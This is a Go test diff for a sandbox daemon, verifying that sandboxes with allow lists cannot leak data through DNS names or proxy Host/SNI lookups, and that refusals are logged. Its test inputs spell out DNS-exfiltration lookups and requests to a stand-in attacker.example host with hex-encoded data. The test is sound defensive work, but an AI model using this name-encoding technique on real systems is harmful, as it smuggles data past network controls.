@@ -551,3 +551,86 @@ func TestLearnedAddressesFollowRules(t *testing.T) {
 		t.Fatal("a new connection to an address no longer allowed passed")
 	}
 }
+
+// TestDNSNoExfiltration: a sandbox whose allow list is not empty cannot
+// make sbxd carry a name it may not resolve to the upstream resolver (data
+// encoded in the name, exfil-<data>.attacker.example), neither through
+// the DNS server nor through the egress proxy's lookups of a Host or SNI.
+// The upstream logs every name that reaches it.
+func TestDNSNoExfiltration(t *testing.T) {
+	nettest.RequireRoot(t)
+	out := nettest.StartOutside(t, fmt.Sprintf("tox%d", os.Getpid()%10000), netip.MustParsePrefix("10.232.0.0/24"))
+	up := nettest.StartUpstream(t, map[string]netip.Addr{"outside.test": out.Addr}, nil, "")
+	m := testManager(t, up.Addr)
+	const id = "sbx_eeeeeeeeeeeeeeee"
+	path, err := m.Create(id, "exfil", rules(t, api.NetworkRules{Internet: true, Allow: []string{"10.232.0.0/24"}}))
+	must(t, err)
+	c := nsClient{t, path}
+	leaked := func(t *testing.T, marker string) bool {
+		t.Helper()
+		for _, n := range up.Seen() {
+			if strings.Contains(n, marker) {
+				return true
+			}
+		}
+		return false
+	}
+
+	t.Run("CIDR-only allow list: no name leaves", func(t *testing.T) {
+		name := "exfil-736563726574.attacker.example"
+		r, err := c.lookup(name)
+		must(t, err)
+		if r.Rcode != dns.RcodeNameError || len(r.Answer) != 0 {
+			t.Errorf("%s: rcode %s, answer %v; want NXDOMAIN", name, dns.RcodeToString[r.Rcode], r.Answer)
+		}
+		if leaked(t, "attacker.example") {
+			t.Fatalf("the name reached the upstream resolver: %v", up.Seen())
+		}
+		// The address itself stays reachable: the rule allows it.
+		code, body, err := c.get("http://"+out.Addr.String()+"/", out.Addr.String()+":80")
+		if err != nil || code != 200 || !strings.Contains(body, "hello") {
+			t.Fatalf("an allowed CIDR: %d %q %v", code, body, err)
+		}
+	})
+	t.Run("names and CIDRs: only the listed names leave", func(t *testing.T) {
+		must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true, Allow: []string{"outside.test", "10.232.0.0/24"}})))
+		r, err := c.lookup("outside.test")
+		must(t, err)
+		if len(r.Answer) != 1 {
+			t.Fatalf("outside.test: %v", r)
+		}
+		r, err = c.lookup("exfil-2.attacker.example")
+		must(t, err)
+		if r.Rcode != dns.RcodeNameError {
+			t.Errorf("exfil-2: rcode %s", dns.RcodeToString[r.Rcode])
+		}
+		// The proxy reads the name of a connection to an allowed address
+		// and must not look it up either.
+		_, _, _ = c.get("http://exfil-3.attacker.example/", out.Addr.String()+":80")
+		_, _, _ = c.get("https://exfil-4.attacker.example/", out.Addr.String()+":443")
+		if leaked(t, "attacker.example") {
+			t.Fatalf("a name reached the upstream resolver: %v", up.Seen())
+		}
+	})
+	t.Run("refusals are in the network log", func(t *testing.T) {
+		l, err := m.Log(id)
+		must(t, err)
+		found := false
+		for _, e := range l.Refused {
+			if e.Kind == "dns" && e.Destination == "exfil-736563726574.attacker.example" {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("no dns refusal of the exfil name in the log: %+v", l.Refused)
+		}
+	})
+	t.Run("internet open without an allow list: names are forwarded as before", func(t *testing.T) {
+		must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true})))
+		_, err := c.lookup("open-1.attacker.example")
+		must(t, err)
+		if !leaked(t, "open-1.attacker.example") {
+			t.Fatalf("an open sandbox's query did not reach the upstream: %v", up.Seen())
+		}
+	})
+}
